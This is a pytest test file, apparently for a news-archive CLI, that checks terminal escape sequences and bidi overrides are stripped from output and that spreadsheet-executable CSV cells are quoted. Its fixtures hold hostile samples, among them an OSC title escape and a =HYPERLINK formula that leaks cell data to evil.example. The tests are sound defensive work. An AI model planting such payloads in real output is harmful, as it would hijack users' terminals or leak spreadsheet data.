@@ -1,0 +1,220 @@
+"""Scraped text that attacks a terminal or a spreadsheet (issue 10, row 11): table, show
+and CSV to a terminal print no control or bidi character; CSV cells a spreadsheet would run
+get OWASP's leading quote unless --raw; JSON stays as archived."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import pty
+import subprocess
+import sys
+import tty
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from newsarchive.check_site import ArticleCheck, FieldCheck, SiteCheck, format_text
+from newsarchive.safe_text import csv_row, for_spreadsheet, for_terminal, json_escape
+
+from .search_corpus import build
+from .support import Result
+
+Cli = Callable[..., Result]
+
+OSC_TITLE = "\x1b]0;pwned\x07"  # retitles the terminal window
+CLEAR = "\x1b[2J"
+C1_CSI = "\x9b31m"  # one-character CSI
+NEL = "\x85"
+RLO = "\u202e"  # right-to-left override
+ISOLATES = "\u2066\u2067\u2068\u2069"
+HOSTILE = [OSC_TITLE, CLEAR, C1_CSI, NEL, RLO, ISOLATES, "\u202a\u202b\u202c\u202d", "\r"]
+UNSAFE = ["\x1b", "\x07", "\x9b", "\x85", "\r", *"\u202a\u202b\u202c\u202d\u202e", *ISOLATES]
+EVIL_TITLE = f"-Общината {RLO}abc{OSC_TITLE}"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Кликнете")'
+
+
+def test_for_terminal_removes_controls_c1_and_bidi_but_keeps_text() -> None:
+    for attack in HOSTILE:
+        cleaned = for_terminal(f"Община{attack}Русе")
+        assert not any(ch in cleaned for ch in UNSAFE), repr(cleaned)
+        assert cleaned.startswith("Община") and cleaned.endswith("Русе")
+    assert (
+        for_terminal("ред 1\nред 2\tтаб · „кавички“ — € ñ 🙂")
+        == "ред 1\nред 2\tтаб · „кавички“ — € ñ 🙂"
+    )
+    assert for_terminal(None) == "" and for_terminal(42) == "42"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_a_spreadsheet_would_run_get_a_quote(start: str) -> None:
+    assert for_spreadsheet(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_other_cells_and_numbers_are_left_alone() -> None:
+    for value in ("Общината", "'=x", " =x", "", "2024-01-01", "https://x.bg/=1"):
+        assert for_spreadsheet(value) == value
+    assert for_spreadsheet(-3.5) == -3.5 and for_spreadsheet(None) is None
+    row = {"title": "=1+1", "score": -2.0, "snippet": f"{CLEAR}-x"}
+    assert csv_row(row, terminal=False) == {"title": "'=1+1", "score": -2.0,
+                                            "snippet": f"{CLEAR}-x"}  # fmt: skip
+    assert csv_row(row, terminal=True) == {"title": "'=1+1", "score": -2.0, "snippet": "[2J-x"}
+    assert csv_row(row, terminal=False, raw=True) == row
+    assert csv_row(row, terminal=True, raw=True)["snippet"] == "[2J-x"
+
+
+def hostile_archive(run_cli: Cli, db: Path) -> None:
+    build(run_cli, db, [
+        {"site": "bta", "url": "https://www.bta.bg/evil-1", "title": FORMULA,
+         "published": "2024-01-01", "author": "@автор",
+         "text": f"Общината{OSC_TITLE} реши{CLEAR}. Бюджет{C1_CSI} {RLO}txt.exe{NEL}."},
+        {"site": "bta", "url": "https://www.bta.bg/evil-2", "title": EVIL_TITLE,
+         "published": "2024-01-02", "tags": ["+таг", "друг"],
+         "text": "Общината прие бюджета."},
+    ])  # fmt: skip
+
+
+def csv_cells(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_search_csv_to_a_pipe_quotes_formulas_and_raw_opts_out(run_cli: Cli, db: Path) -> None:
+    hostile_archive(run_cli, db)
+    result = run_cli("search", "община", "--format", "csv", "--sort", "oldest", "--db", str(db))
+    assert result.exit_code == 0, result.stderr
+    rows = csv_cells(result.stdout)
+    assert [r["title"] for r in rows] == ["'" + FORMULA, f"'-Общината {RLO}abc{OSC_TITLE}"]
+    assert float(rows[0]["score"]) != 0  # numbers are left as they are
+    raw = run_cli("search", "община", "-f", "csv", "--sort", "oldest", "--raw", "--db", str(db))
+    assert [r["title"] for r in csv_cells(raw.stdout)] == [
+        FORMULA,
+        f"-Общината {RLO}abc{OSC_TITLE}",
+    ]
+    counts = run_cli("search", "община", "-f", "csv", "--count", "--db", str(db))
+    assert counts.exit_code == 0 and "bta,2024,2" in counts.stdout
+
+
+def test_export_csv_quotes_formulas_in_every_column(run_cli: Cli, db: Path, tmp_path: Path) -> None:
+    hostile_archive(run_cli, db)
+    out = tmp_path / "out.csv"
+    assert run_cli("export", "-f", "csv", "--out", str(out), "--db", str(db)).exit_code == 0
+    rows = csv_cells(out.read_text(encoding="utf-8"))
+    assert [(r["title"], r["author"], r["tags"]) for r in rows] == [
+        ("'" + FORMULA, "'@автор", ""),
+        (f"'-Общината {RLO}abc{OSC_TITLE}", "", "'+таг, друг"),
+    ]
+    assert OSC_TITLE in rows[0]["text"]  # a file keeps the text as archived
+    assert (
+        run_cli("export", "-f", "csv", "--raw", "--out", str(out), "--db", str(db)).exit_code == 0
+    )
+    rows = csv_cells(out.read_text(encoding="utf-8"))
+    assert [(r["title"], r["author"]) for r in rows] == [
+        (FORMULA, "@автор"),
+        (f"-Общината {RLO}abc{OSC_TITLE}", ""),
+    ]
+    jsonl = run_cli("export", "--db", str(db)).stdout.split("\n")  # not splitlines: NEL
+    assert json.loads(jsonl[0])["title"] == FORMULA  # JSON is data: as archived
+    assert json.loads(jsonl[0])["text"].count("\x1b") == 2
+
+
+def test_table_and_show_print_no_control_or_bidi_character(run_cli: Cli, db: Path) -> None:
+    hostile_archive(run_cli, db)
+    table = run_cli("search", "община", "--db", str(db))
+    show = run_cli("show", "1", "--db", str(db))
+    for result in (table, show):
+        assert result.exit_code == 0, result.stderr
+        assert not [ch for ch in UNSAFE if ch in result.stdout]
+    assert "txt.exe" in show.stdout and "Бюджет31m" in show.stdout
+
+
+def test_check_site_text_prints_no_control_or_bidi_character() -> None:
+    article = ArticleCheck("https://x.bg/a-1", 200)
+    article.fields["title"] = FieldCheck(
+        f"Заглавие{OSC_TITLE}{RLO}{C1_CSI}", "h1", "profile", False
+    )
+    report = SiteCheck("x", articles=[article])
+    text = format_text(report)
+    assert "Заглавие]0;pwned31m" in text
+    assert not [ch for ch in UNSAFE if ch in text]
+
+
+def on_a_terminal(*args: str) -> str:
+    """Run the CLI with stdout on a pseudo-terminal; what the terminal received."""
+    main, child = pty.openpty()
+    tty.setraw(child)  # bytes as written: no \n -> \r\n translation
+    env = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1"}
+    env.pop("NEWSARCHIVE_DB", None)
+    code = "from newsarchive.cli import main; main()"
+    proc = subprocess.run([sys.executable, "-c", code, *args], stdout=child,
+                          stderr=subprocess.PIPE, env=env, timeout=60, check=False)  # fmt: skip
+    os.close(child)
+    received = b""
+    try:
+        while chunk := os.read(main, 65536):
+            received += chunk
+    except OSError:  # EIO: the terminal has nothing more
+        pass
+    os.close(main)
+    assert proc.returncode == 0, proc.stderr
+    return received.decode("utf-8").replace("\r\n", "\n")  # csv ends rows with \r\n
+
+
+def test_csv_to_a_terminal_is_as_safe_as_the_table(run_cli: Cli, db: Path) -> None:
+    hostile_archive(run_cli, db)
+    for args in (("search", "община", "-f", "csv"), ("search", "община", "-f", "csv", "--raw"),
+                 ("export", "-f", "csv"), ("export", "-f", "csv", "--raw")):  # fmt: skip
+        shown = on_a_terminal(*args, "--db", str(db))
+        assert "evil-1" in shown and "evil-2" in shown
+        assert not [ch for ch in UNSAFE if ch in shown], args
+        titles = {row["title"] for row in csv_cells(shown)}
+        expected = FORMULA if "--raw" in args else "'" + FORMULA
+        assert expected in titles, titles
+
+
+@given(st.text(alphabet=st.characters(codec=None, max_codepoint=0x206F)))
+def test_no_text_gets_a_control_to_a_terminal_or_a_formula_to_a_sheet(text: str) -> None:
+    cleaned = for_terminal(text)
+    assert not [ch for ch in cleaned if ch in UNSAFE or (ord(ch) < 32 and ch not in "\t\n")]
+    cell = for_spreadsheet(text)
+    assert isinstance(cell, str) and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert cell.removeprefix("'") == text or cell == text
+
+
+def test_json_keeps_the_data_but_spells_c1_and_bidi_as_escapes(run_cli: Cli, db: Path) -> None:
+    hostile_archive(run_cli, db)
+    outputs = {
+        "search": run_cli("search", "община", "-f", "json", "--sort", "oldest", "--db", str(db)),
+        "show": run_cli("show", "1", "-f", "json", "--db", str(db)),
+        "export": run_cli("export", "--db", str(db)),
+    }
+    for result in outputs.values():
+        assert result.exit_code == 0, result.stderr
+        assert not [ch for ch in ("\x85", "\x9b", *"\u202a\u202b\u202c\u202d\u202e") if ch in
+                    result.stdout]  # fmt: skip
+    assert "\\u202e" in outputs["show"].stdout and "\\u009b" in outputs["show"].stdout
+    hits = outputs["search"].json()
+    assert isinstance(hits, list) and [h["title"] for h in hits] == [FORMULA, EVIL_TITLE]
+    article = outputs["show"].json()
+    assert isinstance(article, dict)
+    assert article["text"] == f"Общината{OSC_TITLE} реши{CLEAR}. Бюджет{C1_CSI} {RLO}txt.exe{NEL}."
+    rows = [json.loads(line) for line in outputs["export"].stdout.splitlines()]  # no raw NEL now
+    assert [r["title"] for r in rows] == [FORMULA, EVIL_TITLE]
+
+
+@given(st.text())
+def test_json_escape_is_lossless(text: str) -> None:
+    dumped = json.dumps({"k": text, text: [text]}, ensure_ascii=False)
+    assert json.loads(json_escape(dumped)) == {"k": text, text: [text]}
+
+
+def test_stats_prints_an_imported_site_id_without_controls(run_cli: Cli, db: Path) -> None:
+    build(run_cli, db, [{"site": f"x{OSC_TITLE}{RLO}", "url": "https://x.bg/1", "title": "t",
+                         "published": "2024-01-01", "text": "Общината"}])  # fmt: skip
+    result = run_cli("stats", "--db", str(db))
+    assert result.exit_code == 0 and "x]0;pwned" in result.stdout
+    assert not [ch for ch in UNSAFE if ch in result.stdout]
